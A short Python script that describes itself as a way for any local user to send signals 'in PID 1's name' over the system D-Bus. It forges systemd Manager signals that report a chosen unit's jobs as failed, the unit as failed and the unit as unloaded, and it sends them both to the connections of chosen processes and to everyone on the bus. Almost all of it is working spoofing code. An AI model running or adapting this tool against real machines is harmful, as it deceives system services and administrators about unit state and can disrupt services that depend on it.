"""Send signals in PID 1's name, as any local user may: to the connections of some processes, and to all.

Usage: forge.py UNIT PID…: a job of UNIT has failed, UNIT has failed, UNIT is unloaded. Prints how many connections the
processes have.
"""

import asyncio
import sys
from collections.abc import AsyncIterator
from typing import Any

from dbus_next import BusType, Message, Variant
from dbus_next.aio import MessageBus

BUS = "org.freedesktop.DBus"
SYSTEMD = "org.freedesktop.systemd1"
MANAGER = f"{SYSTEMD}.Manager"
PATH = "/org/freedesktop/systemd1"


async def call(bus: MessageBus, to: str, path: str, interface: str, member: str, *words: str) -> Any:
    signature = "s" * len(words)
    reply = await bus.call(
        Message(destination=to, path=path, interface=interface, member=member, signature=signature, body=list(words))
    )
    return reply.body[0] if reply.body else None


async def connections(bus: MessageBus, pids: set[int]) -> AsyncIterator[str]:
    """Yield the unique names of these processes."""
    for name in await call(bus, BUS, "/", BUS, "ListNames"):
        if name.startswith(":") and await call(bus, BUS, "/", BUS, "GetConnectionUnixProcessID", name) in pids:
            yield name


async def forgeries(bus: MessageBus, unit: str) -> AsyncIterator[Message]:
    path = await call(bus, SYSTEMD, PATH, MANAGER, "LoadUnit", unit)
    for number, of, _, _, job, _ in await call(bus, SYSTEMD, PATH, MANAGER, "ListJobs"):
        if of == unit:
            yield Message.new_signal(PATH, MANAGER, "JobRemoved", "uoss", [number, job, unit, "failed"])
    changed = {"ActiveState": Variant("s", "failed"), "SubState": Variant("s", "failed")}
    body = [f"{SYSTEMD}.Unit", changed, []]
    yield Message.new_signal(path, f"{BUS}.Properties", "PropertiesChanged", "sa{sv}as", body)
    yield Message.new_signal(PATH, MANAGER, "UnitRemoved", "so", [unit, path])


async def main() -> None:
    unit, *pids = sys.argv[1:]
    bus = await MessageBus(bus_type=BusType.SYSTEM).connect()
    targets = [name async for name in connections(bus, {int(pid) for pid in pids})]
    signals = [message async for message in forgeries(bus, unit)]
    for message in signals:
        for target in (*targets, None):
            message.destination, message.serial = target, 0
            await bus.send(message)
    await call(bus, BUS, "/", f"{BUS}.Peer", "Ping")  # the bus has passed on all that came before
    print(len(targets), len(signals))
    bus.disconnect()


asyncio.run(main())
